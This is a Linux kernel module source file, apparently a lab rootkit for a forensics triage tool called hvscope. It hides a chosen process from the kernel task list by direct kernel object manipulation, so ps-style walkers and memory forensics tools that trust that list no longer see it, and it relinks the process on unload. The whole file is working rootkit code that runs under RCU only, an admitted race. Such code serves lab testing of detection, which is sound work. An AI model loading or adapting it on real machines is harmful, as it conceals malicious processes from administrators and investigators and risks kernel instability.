// SPDX-License-Identifier: GPL-2.0
/*
 * hide_proc - lab rootkit for hvscope's triage: hides the process pid=N by
 * unlinking its task_struct from the kernel's task list (init_task.tasks),
 * the list that for_each_process() walks. The task stays in the PID hash
 * (IDR), in its thread group and on the run queues, so it keeps running and
 * /proc/N still answers: only task-list walkers (and a memory forensics tool
 * that trusts the task list) lose it. DKOM in its simplest form.
 *
 *   insmod hide_proc.ko pid=N     hide N (its thread-group leader)
 *   rmmod hide_proc               link it back (if it is still alive)
 *
 * tasklist_lock is not exported: the unlink runs under RCU only. That is a
 * race against concurrent fork/exit, acceptable for a lab guest, not for a
 * real kernel. Never load this outside the lab.
 */
#include <linux/module.h>
#include <linux/moduleparam.h>
#include <linux/pid.h>
#include <linux/rculist.h>
#include <linux/sched.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>

static int pid;
module_param(pid, int, 0444);
MODULE_PARM_DESC(pid, "process to hide (its thread-group leader is unlinked)");

static struct task_struct *hidden;

static int __init hide_proc_init(void)
{
	struct task_struct *t;

	if (pid <= 1)
		return -EINVAL;
	rcu_read_lock();
	t = pid_task(find_vpid(pid), PIDTYPE_PID);
	if (t)
		t = t->group_leader;
	if (t)
		get_task_struct(t);
	rcu_read_unlock();
	if (!t)
		return -ESRCH;
	/* Self-linked afterwards, so the exit path's list_del_rcu() stays harmless. */
	list_del_init(&t->tasks);
	hidden = t;
	pr_info("hide_proc: pid %d (%s) unlinked from the task list\n", pid, t->comm);
	return 0;
}

static void __exit hide_proc_exit(void)
{
	struct task_struct *t = hidden;

	if (!t)
		return;
	if (pid_alive(t) && !(t->flags & PF_EXITING) && list_empty(&t->tasks))
		list_add_tail_rcu(&t->tasks, &init_task.tasks);
	put_task_struct(t);
	pr_info("hide_proc: pid %d linked back\n", pid);
}

module_init(hide_proc_init);
module_exit(hide_proc_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("hvscope lab: hide a process from the task list (DKOM)");
